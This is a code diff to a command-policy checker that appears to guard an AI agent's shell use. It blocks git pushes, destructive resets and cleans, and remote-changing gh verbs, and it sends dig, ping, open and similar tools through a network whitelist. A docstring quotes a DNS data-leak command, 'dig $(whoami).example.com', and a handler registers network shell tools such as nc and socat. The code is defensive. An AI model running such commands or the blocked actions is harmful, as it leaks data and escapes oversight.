@@ -104,7 +104,7 @@ def _git(name: str, args: list[Word], ctx: Ctx, depth: int, seg: str, s: Stdin |
         return block("git-push", seg, "pushing is for humans to do")
     if sub == "reset" and ("--hard" in values or "--merge" in values):
         return block("git-reset-hard", seg, "git reset --hard discards work")
-    if sub == "clean" and flags & {"-f", "--force"}:
+    if sub == "clean" and flags & {"-f", "--force"} and not flags & {"-n", "--dry-run"}:
         return block("git-clean-force", seg, "git clean -f deletes untracked files")
     discard = _git_discard(sub, rest, values, flags, seg)
     if not discard.allowed:
@@ -585,9 +585,21 @@ def _gh(name: str, args: list[Word], ctx: Ctx, depth: int, seg: str, s: Stdin | 
         ["repo", "sync"], ["release", "delete"], ["release", "create"], ["release", "upload"],
         ["pr", "merge"], ["secret", "set"], ["secret", "delete"], ["workflow", "run"],
     )  # fmt: skip
-    if values[:2] in remote_changes:
+    if values[:2] in remote_changes or (len(values) > 1 and _gh_changes(values[1])):
         return block("remote-mutation", seg, f"gh {values[0]} {values[1]} changes the remote")
     return ALLOW
+
+
+_GH_CHANGES = word_set(
+    "merge close reopen archive unarchive comment review lock unlock transfer pin unpin "
+    "cancel rerun disable enable edit rename delete create set upload sync"
+)
+"""Verbs of a ``gh`` sub-command that change the remote (``gh workflow disable``, ``gh run
+cancel``, ``gh label create``); ``pr``/``issue create`` are judged by their target above."""
+
+
+def _gh_changes(verb: str | None) -> bool:
+    return verb is None or verb in _GH_CHANGES
 
 
 def _gh_create(kind: str, args: list[Word], ctx: Ctx, seg: str) -> Verdict:
@@ -630,3 +642,51 @@ register("curl wget wget2", _curl)
 register("http https xh", _httpie)
 register("ssh scp sftp rsync mosh telnet nc ncat netcat ftp tftp socat", _raw_network)
 register("gh", _gh)
+
+
+_LOOKUP_VALUE = word_set("-p -t -c -q -x -k -b -f -y -W -w -i -I -s -m -T -Q -g -h -type -port")
+_RECORD_TYPES = word_set(
+    "a aaaa mx txt any ns cname soa ptr srv caa ds dnskey https svcb axfr ixfr in ch hs"
+)
+
+
+def _lookup(
+    name: str, args: list[Word], ctx: Ctx, depth: int, seg: str, s: Stdin | None
+) -> Verdict:
+    """DNS and reachability probes (``dig``, ``nslookup``, ``host``, ``ping``...) talk to the
+    host they name, as ``curl`` does: a host outside the whitelist, or one computed at run time
+    (``dig $(whoami).example.com`` spells data into a query), is the network policy's."""
+    for word in positionals(args, _LOOKUP_VALUE):
+        host = word.value
+        if host is None:
+            return block("network-unknown-target", seg, f"{name} of a host computed at run time")
+        host = host.lstrip("@").rstrip(".")
+        if not host or host.lower() in _RECORD_TYPES or host.startswith("+"):
+            continue
+        verdict = network_url(f"https://{host}/", ctx, seg)
+        if not verdict.allowed:
+            return verdict
+    return ALLOW
+
+
+register("dig drill nslookup host whois ping ping6 traceroute tracepath mtr", _lookup)
+
+
+def _open(name: str, args: list[Word], ctx: Ctx, depth: int, seg: str, s: Stdin | None) -> Verdict:
+    """``open``/``xdg-open`` show a file in its viewer or a URL in the browser: a URL is the
+    network policy's; naming an application to start (``open -a App``) is an unknown program
+    in unattended runs."""
+    for word in args:
+        v = word.value
+        if v is None:
+            return block("network-unknown-target", seg, f"{name} of a target computed at run time")
+        if "://" in v:
+            verdict = network_url(v, ctx, seg)
+            if not verdict.allowed:
+                return verdict
+        elif ctx.unattended and v in {"-a", "-b", "--args"}:
+            return block("unknown-program", seg, f"{name} {v} starts an application")
+    return ALLOW
+
+
+register("open xdg-open", _open)
